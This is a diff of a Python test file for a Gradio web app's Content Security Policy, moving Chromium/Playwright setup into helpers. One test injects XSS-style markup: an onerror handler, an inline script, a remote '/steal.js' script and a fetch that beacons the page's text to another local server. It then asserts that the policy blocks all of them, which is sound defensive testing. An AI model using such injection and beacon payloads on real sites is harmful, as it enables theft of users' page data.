@@ -22,7 +22,8 @@ from typing import Any
 import gradio as gr
 import httpx
 import pytest
-from servers import free_port, thread_uvicorn
+from browsers import chromium, playwright_api, refused_by_policy
+from servers import Outside, free_port, thread_uvicorn
 from test_redteam import one_sentence
 from test_redteam4 import Limited, _client, _page_event, _served
 from test_redteam9 import _page
@@ -134,20 +135,10 @@ def test_the_pages_policy_names_its_scripts_and_lets_it_reach_no_other_address(
     assert reply.headers["x-content-type-options"] == "nosniff"
 
 
-class _Outside:
-    """Another site: an ASGI app that records each request it is sent (and lets any page
-    read its answers, so only the page's own policy can stop a request)."""
-
-    def __init__(self) -> None:
-        self.seen: list[str] = []
-
-    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
-        if scope["type"] != "http":
-            return
-        self.seen.append(scope["path"])
-        headers = [(b"access-control-allow-origin", b"*"), (b"content-type", b"text/javascript")]
-        await send({"type": "http.response.start", "status": 200, "headers": headers})
-        await send({"type": "http.response.body", "body": b"window.__loaded = 1;"})
+# Another site, which lets any page read its answers (so only the page's own policy can stop
+# a request) and answers with a script that marks that it ran.
+_OUTSIDE_SCRIPT = b"window.__loaded = 1;"
+_OUTSIDE_HEADERS = ((b"access-control-allow-origin", b"*"), (b"content-type", b"text/javascript"))
 
 
 def test_markup_that_slipped_into_the_page_runs_nothing_and_sends_nothing_away(
@@ -157,40 +148,31 @@ def test_markup_that_slipped_into_the_page_runs_nothing_and_sends_nothing_away(
     # if escaping ever failed, an inline script, an event handler, a script from another
     # address, and a fetch sending the page's text there. Before, the other address was
     # sent the script's request and the fetch, and the script ran.
-    chromium = Path("/usr/bin/chromium")
-    if not chromium.exists():
-        pytest.skip("Chromium is not installed at /usr/bin/chromium")
-    sync_api = pytest.importorskip("playwright.sync_api")
-    outside = _Outside()
-    with thread_uvicorn(outside) as port, sync_api.sync_playwright() as p:
-        browser = p.chromium.launch(
-            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
+    sync_api = playwright_api()
+    outside = Outside(_OUTSIDE_SCRIPT, _OUTSIDE_HEADERS)
+    with thread_uvicorn(outside) as port, chromium(sync_api) as browser:
+        page = browser.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(plain.url)
+        sync_api.expect(page.locator("#documents")).to_contain_text("a.txt")
+        fetched = page.evaluate(
+            """(other) => {
+            const slipped = document.createElement('div');
+            slipped.innerHTML = '<img src="data:," onerror="window.__handler = 1">';
+            document.body.append(slipped);
+            const inline = document.createElement('script');
+            inline.textContent = 'window.__inline = 1';
+            document.head.append(inline);
+            const remote = document.createElement('script');
+            remote.src = other + '/steal.js';
+            document.head.append(remote);
+            const page = encodeURIComponent(document.body.innerText.slice(0, 200));
+            return fetch(other + '/beacon?page=' + page).then(() => 'sent', () => 'refused');
+        }""",
+            f"http://127.0.0.1:{port}",
         )
-        try:
-            page = browser.new_page()
-            page.set_default_timeout(60_000)
-            page.goto(plain.url)
-            sync_api.expect(page.locator("#documents")).to_contain_text("a.txt")
-            fetched = page.evaluate(
-                """(other) => {
-                const slipped = document.createElement('div');
-                slipped.innerHTML = '<img src="data:," onerror="window.__handler = 1">';
-                document.body.append(slipped);
-                const inline = document.createElement('script');
-                inline.textContent = 'window.__inline = 1';
-                document.head.append(inline);
-                const remote = document.createElement('script');
-                remote.src = other + '/steal.js';
-                document.head.append(remote);
-                const page = encodeURIComponent(document.body.innerText.slice(0, 200));
-                return fetch(other + '/beacon?page=' + page).then(() => 'sent', () => 'refused');
-            }""",
-                f"http://127.0.0.1:{port}",
-            )
-            page.wait_for_timeout(1000)
-            ran = page.evaluate("[window.__handler, window.__inline, window.__loaded]")
-        finally:
-            browser.close()
+        page.wait_for_timeout(1000)
+        ran = page.evaluate("[window.__handler, window.__inline, window.__loaded]")
     assert fetched == "refused" and outside.seen == [], outside.seen
     assert ran == [None, None, None], ran
 
@@ -376,30 +358,15 @@ def test_the_starting_page_may_be_framed_by_no_site_and_runs_only_its_own_script
         digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
         assert f"'sha256-{digest}'" in policy
 
-        chromium = Path("/usr/bin/chromium")
-        if not chromium.exists():
-            pytest.skip("Chromium is not installed at /usr/bin/chromium")
-        sync_api = pytest.importorskip("playwright.sync_api")
-        with sync_api.sync_playwright() as p:
-            browser = p.chromium.launch(
-                executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
+        sync_api = playwright_api()
+        with chromium(sync_api) as browser:
+            page = browser.new_page()
+            refused = refused_by_policy(page)
+            page.goto(f"http://127.0.0.1:{port}/")
+            progress.set_line("Embedding the new passages: 70%")  # the script polls it
+            sync_api.expect(page.locator("#startup")).to_contain_text(
+                "Embedding the new passages", timeout=30_000
             )
-            try:
-                page = browser.new_page()
-                refused: list[str] = []
-                page.on(
-                    "console",
-                    lambda m: (
-                        refused.append(m.text) if "Content Security Policy" in m.text else None
-                    ),
-                )
-                page.goto(f"http://127.0.0.1:{port}/")
-                progress.set_line("Embedding the new passages: 70%")  # the script polls it
-                sync_api.expect(page.locator("#startup")).to_contain_text(
-                    "Embedding the new passages", timeout=30_000
-                )
-            finally:
-                browser.close()
         assert refused == [], refused
     finally:
         server.stop()
